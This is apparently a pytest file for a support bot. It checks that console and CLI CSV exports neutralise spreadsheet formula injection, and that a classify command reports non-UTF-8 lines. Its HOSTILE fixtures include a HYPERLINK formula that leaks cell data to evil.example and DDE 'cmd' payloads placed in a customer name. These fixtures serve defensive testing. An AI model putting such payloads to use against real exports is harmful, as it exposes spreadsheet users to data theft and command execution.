"""Exports and files people feed in (issue 13, items 9 and 10): a customer's `=HYPERLINK`
stays text in every CSV export, and `heard classify` reports a line that is not UTF-8 and
goes on with the rest."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from storage.store import FORMULA_STARTS
from tests.channels import serving, telegram_text
from tests.processes import ROOT
from tests.test_console import add_agent, sign_in

HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"點我\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


async def _hostile_cases(db: Path) -> None:
    async with serving(db) as s:
        for n, text in enumerate(HOSTILE):
            update = telegram_text(9100 + n, 88000 + n, f"{text} 我的耳機壞了")
            update["message"]["text"] = text                # the message starts with it
            update["message"]["from"]["first_name"] = "=cmd|' /C calc'!A0"
            update["message"]["from"].pop("last_name", None)
            assert (await s.post_telegram(update)).status == 200
        await s.settle()


async def test_the_console_export_neutralises_formulas(tmp_path: Path) -> None:
    db = tmp_path / "h.db"
    await _hostile_cases(db)
    async with serving(db) as s:
        add_agent(db, "lin", role="admin")
        lin, _ = await sign_in(s, "lin")
        async with lin.get(f"{s.url}/console/export.csv") as r:
            rows = list(csv.reader(io.StringIO(await r.text())))
        await lin.close()
    neutralised = [c for row in rows for c in row if c[:1] == "'" and c[1:].startswith(
        FORMULA_STARTS)]
    print(f"console export: {len(neutralised)} cells neutralised")
    assert _formula_cells(rows) == []
    assert len(neutralised) >= len(HOSTILE)               # the customer's name per case, at least
    names = [row[rows[0].index("customer_name")] for row in rows[1:]]
    assert set(names) == {"'=cmd|' /C calc'!A0"}           # still readable, just inert


async def test_heard_cases_export_neutralises_formulas(tmp_path: Path) -> None:
    db = tmp_path / "h.db"
    await _hostile_cases(db)
    done = subprocess.run([sys.executable, "-m", "bot.cli", "cases", "export", "--db", str(db)],
                          capture_output=True, text=True, cwd=ROOT, check=True,
                          env={**os.environ, "HEARD_LOG_LEVEL": "ERROR"})
    rows = list(csv.reader(io.StringIO(done.stdout)))
    assert len(rows) == len(HOSTILE) + 1
    assert _formula_cells(rows) == []


def test_classify_reports_a_line_that_is_not_utf8_and_goes_on(tmp_path: Path) -> None:
    messages = tmp_path / "messages.txt"
    messages.write_bytes("我的耳機壞了\n".encode() + b"\xff\xfe broken \xc3\n" +
                         "包裹還沒到，已經三天了\n".encode() + b"\xe4\xb8\n" +
                         "我要找真人客服\n".encode())
    done = subprocess.run([sys.executable, "-m", "bot.cli", "classify", str(messages)],
                          capture_output=True, text=True, cwd=ROOT, check=False)
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert "line 2: skipped, not UTF-8 (byte 0xff at column 1)" in done.stderr
    assert "line 4: skipped, not UTF-8" in done.stderr
    out = done.stdout.splitlines()
    assert len(out) == 3 and out[0].endswith("我的耳機壞了") and out[2].endswith("我要找真人客服")


@pytest.mark.parametrize("value", ["plain", "2026CS000001", 3, None, "ok=fine"])
def test_ordinary_cells_are_left_alone(value: object) -> None:
    from storage.store import csv_safe

    assert csv_safe(value) == ("" if value is None else value)
